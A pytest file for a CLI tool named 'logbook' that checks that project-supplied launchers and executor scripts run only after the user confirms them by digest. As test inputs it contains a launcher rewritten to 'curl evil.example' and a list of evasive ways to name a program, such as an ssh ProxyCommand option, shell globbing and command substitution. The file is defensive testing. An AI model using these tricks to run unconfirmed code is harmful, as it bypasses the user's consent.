"""What a project brings is started only as its user confirmed it: tables of settings, and files that they name."""

from __future__ import annotations

import os
import re
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Answer, Cli, confirm

LAUNCHER = '[launchers.pod]\ntemplate = "./pod.sh {env} {command}"\n'
JOBS = """
[executors.jobs]
kind = "command"
submit = ["sh", "-c", "echo 7", "{env}", "{command}"]
state = ["./poll.sh", "{id}"]
logs = ["true"]
poll_s = 0.01
log_lag_s = 0
"""


def script(path: Path, text: str) -> None:
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"#!/bin/sh\n{text}\n")
    path.chmod(0o755)


def refused(answer: Answer) -> None:
    assert answer.code == 2, answer.out
    assert "is not confirmed" in answer.err


def test_a_launcher_of_the_project_runs_only_as_it_was_confirmed(started: Cli, folder: Path) -> None:
    (folder / "logbook.toml").write_text(LAUNCHER)
    script(folder / "pod.sh", 'echo "$@" > got')
    run = ("run", "--on", "pod", "--env", "HF_TOKEN=0aZ-Q7xQ7xQ7x", "--", "true")
    first = started(*run)
    refused(first)
    assert not (folder / "got").exists()
    assert started("list", "--json").data == []
    typed = re.search(r"type: logbook (executors .*)", first.err)
    assert typed is not None
    assert "launchers.pod" in started(*shlex.split(typed[1])).out, "the line that the error says is the one to type"
    assert started(*run).code == 0
    script(folder / "pod.sh", "echo another > got")
    refused(started(*run))
    assert "HF_TOKEN" in (folder / "got").read_text()


def test_a_digest_that_was_read_elsewhere_confirms_nothing_else(started: Cli, folder: Path) -> None:
    """So a workflow that holds a digest confirms no branch that brings something else."""
    (folder / "logbook.toml").write_text(LAUNCHER)
    [digest] = confirm(started)
    assert started("executors", "--offline", "--confirm", digest).code == 0, "a second time"
    (folder / "logbook.toml").write_text(LAUNCHER.replace("./pod.sh", "curl evil.example"))
    answer = started("executors", "--offline", "--confirm", digest)
    assert answer.code == 0, "it was confirmed for what stood there before"
    refused(started("run", "--on", "pod", "--", "true"))
    unknown = started("executors", "--offline", "--confirm", f"sha256:{'0' * 64}")
    assert unknown.code == 2
    assert "launchers.pod" in unknown.err


def test_a_program_that_was_replaced_is_not_started_to_ask_for_a_job(started: Cli, folder: Path) -> None:
    (folder / "logbook.toml").write_text(JOBS)
    script(folder / "poll.sh", "echo RUNNING")
    confirm(started)
    assert started("run", "--detach", "--on", "jobs", "--", "true").code == 0
    script(folder / "poll.sh", "touch ran; echo RUNNING")
    for words in (("status",), ("list",), ("show", "MOE-000"), ("doctor",)):
        answer = started(*words)
        assert not (folder / "ran").exists(), words
    assert "not confirmed" in answer.err + answer.out


@pytest.mark.parametrize(
    "words",
    [
        '["sh", "-c", "cd tools && ./poll.sh {id}"]',
        '["python3", "-m", "tools.poll"]',
        '["python3", "tools"]',
        '["PATH=tools", "poll.sh"]',
        '["sh", "-c", "$PWD/tools/poll.sh {id}"]',
        '["sh", "-c", "$(git rev-parse --show-toplevel)/tools/poll.sh {id}"]',
        '["sh", "-c", "tools/po?l.* {id}"]',
        '["sh", "-c", "cd tools; for f in p*.sh; do ./$f {id}; done"]',
        '["ssh", "-F", "tools/poll.sh", "box"]',
        '["ssh", "-oProxyCommand=tools/poll.sh", "box"]',
        '["./tools/a poll@1.sh", "{id}"]',
        '["sh", "-c", "tools/a\\\\ poll@1.sh {id}"]',
    ],
)
@pytest.mark.sample(4)
def test_each_way_to_name_a_file_is_covered(started: Cli, folder: Path, words: str) -> None:
    (folder / "logbook.toml").write_text(JOBS.replace('["./poll.sh", "{id}"]', words))
    names = ("poll.sh", "poll.py", "__main__.py", "a poll@1.sh")
    for name in names:
        script(folder / "tools" / name, "true")
    confirm(started)
    for name in names:
        script(folder / "tools" / name, "false")
    refused(started("run", "--on", "jobs", "--", "true"))


def test_a_file_of_the_folder_that_one_is_in_counts(started: Cli, folder: Path, git: Callable[..., str]) -> None:
    """A relative program means another file there."""
    (folder / "logbook.toml").write_text(LAUNCHER)
    script(folder / "pod.sh", "true")
    [digest] = confirm(started)
    (folder / "below").mkdir()
    assert started("run", "--on", "pod", "--cwd", "below", "--", "true").code == 127, "there is none yet"
    script(folder / "below/pod.sh", "touch ran")
    answer = started("run", "--on", "pod", "--cwd", "below", "--", "true")
    refused(answer)
    assert "cd " in answer.err
    assert digest not in answer.err


def test_what_the_user_wrote_needs_no_word_but_for_files_of_a_project(started: Cli, folder: Path) -> None:
    own = Path(os.environ["XDG_CONFIG_HOME"]) / "logbook-agent/config.toml"
    own.parent.mkdir(parents=True)
    own.write_text('[launchers]\nhere = "env {command}"\nscript = "./pod.sh {command}"\n')
    assert started("run", "--on", "here", "--", "true").code == 0
    script(folder / "pod.sh", "true")
    refused(started("run", "--on", "script", "--", "true"))
    confirm(started)
    assert started("run", "--on", "script", "--", "true").code == 0
